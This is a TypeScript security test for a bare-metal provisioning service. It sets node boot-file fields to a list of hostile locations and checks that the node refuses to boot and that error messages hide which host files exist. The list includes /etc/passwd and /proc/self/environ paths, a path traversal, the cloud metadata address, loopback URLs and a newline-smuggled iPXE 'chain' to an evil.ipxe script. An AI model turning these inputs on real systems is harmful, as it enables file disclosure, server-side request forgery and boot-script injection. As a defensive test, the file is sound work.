import type { Drill } from '../drill.ts';
import { makeFindings } from '../findings.ts';
import { scriptByMac } from '../stage/boot-files.ts';
import { askFor, patchNode, restingState, showNode, waitForState } from '../stage/nodes.ts';
import type { DrillNode } from '../stage/nodes.ts';
import type { Product } from '../stage/product.ts';
import { shown } from '../stage/shown.ts';
import { statusOf } from '../stage/wire.ts';

const PRESENT = '/etc/passwd';
const MISSING = '/etc/there-is-no-such-file';

const PLACES: readonly string[] = [
  PRESENT,
  MISSING,
  '/proc/self/environ',
  `file://${PRESENT}`,
  '/var/cache/bessemer/ramdisk/../../../../etc/passwd',
  'etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:9/kernel',
  'http://[::1]:9/kernel',
  'http://10.0.0.66/k\nchain http://10.0.0.66/evil.ipxe',
  'http://10.0.0.66/${net0/mac}',
  'http://10.0.0.66/k?x=1',
  'http://user@10.0.0.66/k',
];

export const foreignBootFile: Drill = {
  name: 'foreign-boot-file',
  threats: ['T-35', 'T-42', 'T-43'],
  attempt: `driver_info names as deploy_kernel, deploy_ramdisk or deploy_iso one of ${PLACES.length} places: files of the host, metadata services, addresses that end a script's line`,
  expected:
    'the node does not boot, nothing is served for it; the text does not tell which files there are',
  run: async (stage) => {
    const findings = makeFindings();
    const { product } = stage;
    const [network, media] = await Promise.all([
      stage.node({ boot_interface: 'ipxe' }),
      stage.node(),
    ]);
    const texts = await Promise.all([
      attempts(product, network, ['deploy_kernel', 'deploy_ramdisk'], findings),
      attempts(product, media, ['deploy_iso'], findings),
    ]);
    for (const [index, byPlace] of texts.entries()) {
      const isSame = byPlace.get(PRESENT) === byPlace.get(MISSING);
      findings.check(isSame, `texts ${index} tell whether a file of the host is there`);
    }
    return findings.finding();
  },
};

/** What the node says for each place. */
const attempts = async (
  product: Product,
  { uuid, machine }: DrillNode,
  keys: readonly string[],
  findings: ReturnType<typeof makeFindings>,
): Promise<ReadonlyMap<string, string>> => {
  const said = new Map<string, string>();
  for (const place of PLACES) {
    const what = `${keys[0] ?? ''} ${JSON.stringify(place)}`;
    const patch = keys.map((key) => ({ op: 'add', path: `/driver_info/${key}`, value: place }));
    const patched = await product.api('PATCH', `/v1/nodes/${uuid}`, patch);
    if (patched.status === 400) {
      findings.saw('400');
      said.set(place, patched.text);
      continue;
    }
    await askFor(product, uuid, 'inspect');
    const node = await restingState(product, uuid, ['inspecting']);
    const state = shown(node['provision_state']);
    findings.saw(state);
    findings.check(state === 'inspect failed', `${what}: the node is ${state}`);
    const served = await statusOf(scriptByMac(product.netbootUrl, machine.mac), {
      from: machine.address,
    });
    findings.check(served === '404', `${what}: the boot script was answered ${served}`);
    said.set(place, shown((await showNode(product, uuid))['last_error']).replace(place, 'PLACE'));
    if (state !== 'inspect failed') return said;
    await askFor(product, uuid, 'manage');
    await waitForState(product, uuid, ['manageable']);
  }
  await patchNode(
    product,
    uuid,
    Object.fromEntries(keys.map((key) => [`/driver_info/${key}`, ''])),
  );
  return said;
};
